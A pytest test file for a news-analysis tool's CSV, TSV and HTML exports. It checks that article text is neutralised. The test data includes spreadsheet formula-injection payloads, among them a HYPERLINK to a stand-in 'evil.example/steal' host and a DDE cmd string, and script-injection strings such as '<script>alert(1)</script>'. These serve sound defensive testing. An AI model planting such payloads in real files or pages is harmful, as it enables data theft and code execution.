"""The formats for other tools (issue 18): CSV/TSV for spreadsheets and coding sheets, one HTML
page to check each fact against its sentence. Both agree with the JSON, and article text stays
inert in both: never a formula, never markup."""
from __future__ import annotations

import csv
import io
import shutil
import struct
import subprocess
import zlib
from html.parser import HTMLParser

import pytest

from conftest import EXAMPLES, SEED, TESSIT

from rashomon.cli.env import Environment
from rashomon.cli.render import Output, OutputOptions, renderer_for
from rashomon.extractors.records import Article, Casualty, Evidence, Failure, Mention, Report, Statement

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = """Market attack leaves residents afraid

=HYPERLINK("http://evil.example/steal?x=1","Click here") was written on the wall, police said on Monday.

"+cmd|' /C calc'!A0 is what they typed," a spokesman for the army said.

-2+3 the ministry said that at least 12 civilians were killed by rebel shelling <script>alert(1)</script> in the town.

@SUM(1+1) The rebels accused the army of shelling the market, "and lying ""twice"" about it".
"""


def _reports(cli, *inputs) -> list[dict]:
    return cli("analyze", *inputs, "-f", "jsonl").lines()


def _rows(text: str, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def _rendered(reports, format: str, **options) -> str:
    out = io.StringIO()
    env = Environment(stdout=out, stderr=io.StringIO(), stdout_isatty=False, stderr_isatty=False, no_color=True)
    renderer = renderer_for(Output(env, OutputOptions(format=format, **options)))
    renderer.begin(len(reports))
    for report in reports:
        renderer.item(report)
    renderer.end()
    return out.getvalue()


def _text(value) -> str:
    return "" if value is None else str(value)


# --- CSV and TSV ------------------------------------------------------------------------------


def _expected(report: dict) -> list[dict]:
    """What each CSV row must say, written out from the JSON for each kind of fact."""
    rows = []
    for a in report["accusations"]:
        rows.append({"kind": "accusation", "allegation": a["allegation"], "accuser_party": a["accuser"]["party"],
                     "accused_party": a["accused"]["party"], "date": a["date"], "evidence": a["evidence"]["text"],
                     "start": a["evidence"]["start"], "end": a["evidence"]["end"]})
    for c in report["casualties"]:
        rows.append({"kind": "casualty", "outcome": c["outcome"], "count": c["count"], "min": c["min"], "max": c["max"],
                     "victims": c["victims"], "place": c["location"], "date": c["date"],
                     "reported_by_party": (c["reported_by"] or {}).get("party"),
                     "perpetrator_party": (c["perpetrator"] or {}).get("party"), "evidence": c["evidence"]["text"],
                     "start": c["evidence"]["start"], "end": c["evidence"]["end"]})
    for s in report["statements"]:
        rows.append({"kind": "statement", "content": s["content"], "party": s["speaker"]["party"],
                     "evidence": s["evidence"]["text"], "start": s["evidence"]["start"], "end": s["evidence"]["end"]})
    shared = {"input": report["input"], "title": report["article"]["title"], "published": report["article"]["published"],
              "source": report["article"]["source"]}
    return [{k: _text(v) for k, v in {**shared, **row}.items()} for row in rows]


def test_csv_round_trips_to_the_facts_of_the_json(cli):
    reports = _reports(cli, EXAMPLES)
    out = cli("analyze", EXAMPLES, "-f", "csv").stdout
    rows = _rows(out)
    expected = [row for report in reports for row in _expected(report)]
    assert len(rows) == len(expected) == sum(len(r[k]) for r in reports for k in ("accusations", "casualties", "statements"))
    for row, want in zip(rows, expected):
        assert {k: row[k] for k in want} == want
    assert out.count("kind,id,input,") == 1  # the header once per run
    assert out.endswith("\r\n") and "\n" not in out.replace("\r\n", "")  # RFC 4180 line ends, none bare


def test_tsv_is_the_same_rows_with_tabs(cli):
    csv_rows = _rows(cli("analyze", SEED, TESSIT, "-f", "csv").stdout)
    tsv = cli("analyze", SEED, TESSIT, "-f", "tsv").stdout
    assert tsv.splitlines()[0].startswith("kind\tid\tinput\ttitle")
    assert _rows(tsv, "\t") == csv_rows


def test_kind_keeps_one_kind_of_fact(cli):
    reports = _reports(cli, SEED, TESSIT)
    rows = _rows(cli("analyze", SEED, TESSIT, "-f", "csv", "--kind", "casualties").stdout)
    assert {r["kind"] for r in rows} == {"casualty"}
    assert [r["count"] for r in rows] == [_text(c["count"]) for r in reports for c in r["casualties"]]
    wrong = cli("analyze", SEED, "-f", "json", "--kind", "casualties")
    assert wrong.code == 2 and "--kind" in wrong.stderr and wrong.stdout == ""


def test_a_run_with_no_facts_is_still_a_header(cli, tmp_path):
    result = cli("analyze", tmp_path / "nowhere.txt", "-f", "csv")
    assert result.code == 1 and result.stdout.startswith("kind,id,input") and len(_rows(result.stdout)) == 0


def _hand_built() -> Report:
    text = '=HYPERLINK("http://evil.example","x") said "+1", and\nthen @me -9'
    evidence = Evidence(text=text, start=0, end=len(text))
    said = Statement(Mention("+Ministry", party="=Ruritania"), '=HYPERLINK("http://evil.example","x")', False, "say", evidence)
    toll = Casualty("killed", 3, evidence, victims="-1+2 people\n\"quoted\"", location="\t=cmd", names=["@A", "B"])
    return Report(input="@input.txt", article=Article(text=text, title='=1+1 "title", with comma'),
                  statements=[said], casualties=[toll])


def test_no_cell_is_a_formula_and_nothing_is_lost():
    rows = _rows(_rendered([_hand_built()], "csv"))
    assert len(rows) == 2
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA), cell
    casualty, statement = rows
    assert statement["content"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"  # guarded, the rest as written
    assert statement["speaker"] == "'+Ministry" and statement["party"] == "'=Ruritania"
    assert casualty["victims"] == "'-1+2 people\n\"quoted\""  # the line break and the quotes kept inside one cell
    assert casualty["place"] == "'\t=cmd" and casualty["names"] == "'@A; B"
    assert casualty["title"] == "'=1+1 \"title\", with comma" and casualty["count"] == "3"


def test_a_hostile_article_stays_inert_in_csv(cli, tmp_path):
    article = tmp_path / "hostile.txt"
    article.write_text(HOSTILE)
    rows = _rows(cli("analyze", article, "-f", "csv").stdout)
    assert len(rows) >= 3
    for row in rows:
        assert not any(cell.startswith(FORMULA) for cell in row.values()), row
    assert any(r["evidence"].startswith("'=HYPERLINK(") for r in rows)
    assert any("<script>alert(1)</script>" in r["evidence"] for r in rows)  # data, kept as written


# --- HTML -----------------------------------------------------------------------------------------


class Page(HTMLParser):
    """What a browser would make of the page: elements, ids, links, and the text inside each
    highlight (by its data-span)."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.ids: set[str] = set()
        self.links: list[str] = []
        self.sources: list[str] = []
        self.spans: dict[str, str] = {}
        self.open: list[str | None] = []  # the data-span of each open element
        self.row: str | None = None
        self.row_links: dict[str, list[str]] = {}
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append(tag)
        if "id" in attrs:
            self.ids.add(attrs["id"])
        if tag == "tr":
            self.row = attrs.get("id")
        if "href" in attrs:
            self.links.append(attrs["href"])
            if self.row:
                self.row_links.setdefault(self.row, []).append(attrs["href"])
        self.sources += [v for k, v in attrs.items() if k in ("src", "srcset", "action", "data")]
        self.open.append(attrs.get("data-span"))

    def handle_endtag(self, tag):
        self.open.pop()

    def handle_data(self, data):
        for span in self.open:
            if span:
                self.spans[span] = self.spans.get(span, "") + data


LETTERS = {"accusations": "A", "casualties": "C", "statements": "S"}


def test_html_highlights_every_fact_with_its_exact_evidence(cli):
    reports = _reports(cli, EXAMPLES)
    out = cli("analyze", EXAMPLES, "-f", "html").stdout
    page = Page(out)
    assert out.startswith("<!DOCTYPE html>") and out.rstrip().endswith("</html>")
    checked = 0
    for n, report in enumerate(reports, 1):
        for kind, letter in LETTERS.items():
            for i, fact in enumerate(report[kind]):
                fid = f"a{n}-{letter}{i + 1}"
                assert page.spans[fid] == fact["evidence"]["text"], fid
                assert fid in page.ids and f"{fid}-row" in page.ids
                assert f"#{fid}-row" in page.links  # the highlight links to its row ...
                assert f"#{fid}" in page.row_links[f"{fid}-row"]  # ... and the row back
                checked += 1
    assert checked == sum(len(r[k]) for r in reports for k in LETTERS) > len(reports)
    assert out.count("class=\"account\"") == sum(len(r["accounts"]) for r in reports)


def test_html_is_self_contained_and_article_text_is_never_markup(cli, tmp_path):
    article = tmp_path / "hostile.txt"
    article.write_text(HOSTILE.replace("Market attack", "<img src=x onerror=alert(2)> Market attack"))
    out = cli("analyze", article, "-f", "html").stdout
    page = Page(out)
    assert "script" not in page.tags and "img" not in page.tags
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out and "&lt;img src=x onerror=alert(2)&gt;" in out
    assert all(link.startswith("#") for link in page.links) and page.sources == []
    assert "http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'" in out
    assert "<link" not in out and "@import" not in out and "url(" not in out


def test_html_page_is_whole_with_failures_and_with_nothing():
    failure = Failure("gone.txt", "no such file")
    out = _rendered([failure, _hand_built()], "html")
    page = Page(out)
    assert "gone.txt: no such file" in out and page.spans["a2-S1"] == _hand_built().article.text
    empty = _rendered([], "html")
    assert empty.startswith("<!DOCTYPE html>") and empty.rstrip().endswith("</html>")


def test_html_lists_fields_it_does_not_know_yet():
    """Fields the contract gains (provenance, a byline) show on the page without a change to it."""

    class Newer(Report):
        def to_dict(self) -> dict:
            data = super().to_dict()
            data["provenance"] = {"rashomon": "9.9", "model": {"name": "en <b>x</b>"}}
            data["article"]["author"] = "A. Writer"
            return data

    base = _hand_built()
    out = _rendered([Newer(input=base.input, article=base.article, statements=base.statements)], "html")
    assert "<dt>provenance.rashomon</dt><dd>9.9</dd>" in out
    assert "<dt>provenance.model.name</dt><dd>en &lt;b&gt;x&lt;/b&gt;</dd>" in out
    assert "<dt>article.author</dt><dd>A. Writer</dd>" in out


# --- the page in a browser -------------------------------------------------------------------


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
WINDOW = (800, 600)


def _screenshot(page, tmp_path):
    shot = tmp_path / "shot.png"
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             f"--user-data-dir={tmp_path / 'profile'}", f"--window-size={WINDOW[0]},{WINDOW[1]}",
             f"--screenshot={shot}", page.as_uri()]
    subprocess.run([CHROMIUM, *flags], capture_output=True, timeout=120, check=True)
    return _pixels(shot.read_bytes())


def _pixels(png: bytes) -> list[tuple[int, ...]]:
    """The pixels of an 8-bit RGB or RGBA PNG (what Chromium writes), filters undone."""
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    at, data, header = 8, b"", None
    while at < len(png):
        size, kind = struct.unpack(">I4s", png[at:at + 8])
        body = png[at + 8:at + 8 + size]
        header = body if kind == b"IHDR" else header
        data += body if kind == b"IDAT" else b""
        at += 12 + size
    width, height, depth, colour_type = struct.unpack(">IIBB", header[:10])
    assert depth == 8 and colour_type in (2, 6)
    step = 3 if colour_type == 2 else 4
    raw, stride, rows, previous = zlib.decompress(data), width * step, [], bytearray(width * step)
    for y in range(height):
        kind, line = raw[y * (stride + 1)], bytearray(raw[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
        for x in range(stride):
            left = line[x - step] if x >= step else 0
            up, corner = previous[x], previous[x - step] if x >= step else 0
            if kind == 1:
                line[x] = (line[x] + left) & 255
            elif kind == 2:
                line[x] = (line[x] + up) & 255
            elif kind == 3:
                line[x] = (line[x] + (left + up) // 2) & 255
            elif kind == 4:
                p = left + up - corner
                nearest = min((abs(p - left), 0, left), (abs(p - up), 1, up), (abs(p - corner), 2, corner))[2]
                line[x] = (line[x] + nearest) & 255
        rows.append(line)
        previous = line
    return [tuple(row[x:x + 3]) for row in rows for x in range(0, stride, step)]


@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (Debian: apt-get install chromium)")
def test_the_html_report_renders_in_a_browser(cli, tmp_path):
    page = tmp_path / "report.html"
    page.write_text(cli("analyze", SEED, TESSIT, "-f", "html").stdout)
    pixels = _screenshot(page, tmp_path)
    inked = [p for p in pixels if min(p) < 200]  # text and highlights, not the white page
    assert len(inked) > len(pixels) * 0.03
    tinted = {p for p in pixels if max(p) - min(p) > 20}  # the parties' colours
    assert len(tinted) > 20
    blank = tmp_path / "blank.html"
    blank.write_text("<!DOCTYPE html><html><body></body></html>")
    assert {p for p in _screenshot(blank, tmp_path)} == {(255, 255, 255)}  # the check can tell a blank page
